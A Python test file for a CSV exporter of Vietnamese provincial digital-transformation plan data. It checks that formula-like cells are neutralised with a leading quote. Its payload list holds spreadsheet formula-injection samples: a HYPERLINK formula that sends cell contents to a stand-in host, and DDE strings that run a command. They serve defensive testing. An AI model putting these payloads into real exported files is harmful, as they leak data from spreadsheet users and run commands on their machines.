"""Tables as CSV: read back with `csv` as spreadsheets read it, and nothing in them runs."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hand_plans import PLANS
from hypothesis import given
from hypothesis import strategies as st

from qa.tables.export_csv import guarded, to_csv
from qa.tables.export_table import Table, target_table, task_table
from qa.tables.records import TaskQuery, select_targets, select_tasks

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+84 123",
    "-2+3+cmd|' /C calc'!A0",
    "- gạch đầu dòng",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=1+1",=2+2',
]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_begins_as_a_formula_is_a_text(payload: str) -> None:
    shown = payload if payload[0] not in "\r\n" else f"{payload[0]}'{payload[1:]}"  # a line of its own to some
    assert read(to_csv(Table("t", ("a", "b"), ((payload, "x"),))))[1] == [f"'{shown}", "x"]


def test_other_texts_stay_as_they_are() -> None:
    for text in ("Sở Nội vụ", "1-2", "a=b", "'đã có'", "", "100%"):
        assert guarded(text) == text


def test_the_file_begins_with_a_byte_order_mark_and_its_lines_end_as_the_standard_says() -> None:
    content = to_csv(Table("t", ("Tỉnh", "Số"), (("Trà Vinh", 85), (None, 0.5), ("a\nb", date(2025, 5, 31)))))
    assert content == '\ufeffTỉnh,Số\r\nTrà Vinh,85\r\n,0.5\r\n"a\nb",2025-05-31\r\n'.encode()


def test_tasks_as_a_table() -> None:
    heading, row = read(to_csv(task_table(select_tasks(PLANS, TaskQuery(text="kinh tế số")))))
    assert dict(zip(heading, row, strict=True)) == {
        "Tỉnh (Province)": "Gia Lai",
        "Văn bản (Document)": "1331",
        "Nhiệm vụ (Task)": "Phát triển kinh tế số",
        "Chủ trì (Lead)": "Sở Kế hoạch và Đầu tư",
        "Phối hợp (Coordinating)": "",
        "Chỉ đạo (Directing)": "Tổ Kinh tế số - Ban Chỉ đạo CĐS tỉnh",
        "Thời hạn (Deadline)": "2022-2025",
        "Từ ngày (From)": "2022-01-01",
        "Đến ngày (Until)": "2025-12-31",
        "Định kỳ (Recurrence)": "",
        "Mục (Section)": "",
        "Nguồn (Source)": "bảng (table)",
        "Căn cứ (Citation)": "dòng 1 1331",
        "Mã đoạn (Passage id)": "1331-1",
    }


def test_targets_as_a_table() -> None:
    rows = read(to_csv(target_table(select_targets(PLANS))))[1:]
    assert [row[2:7] for row in rows] == [
        ["Dân số trưởng thành có điện thoại thông minh", "bằng (equal to)", "80", "%", "2025"],
        ["Số doanh nghiệp số", "tối thiểu (at least)", "250", "doanh nghiệp", "2030"],
        ["Tỷ lệ hồ sơ trực tuyến", "bằng (equal to)", "80", "%", "2023"],
    ]


texts = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)


@given(st.lists(st.tuples(texts, texts), max_size=8))
def test_every_text_comes_back_and_none_begins_as_a_formula(rows: list[tuple[str, str]]) -> None:
    written = read(to_csv(Table("t", ("a", "b"), tuple(rows))))[1:]
    assert len(written) == len(rows)
    for before, after in zip(rows, written, strict=True):
        for text, cell in zip(before, after, strict=True):
            assert cell.replace("'", "") == text.replace("'", "")
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
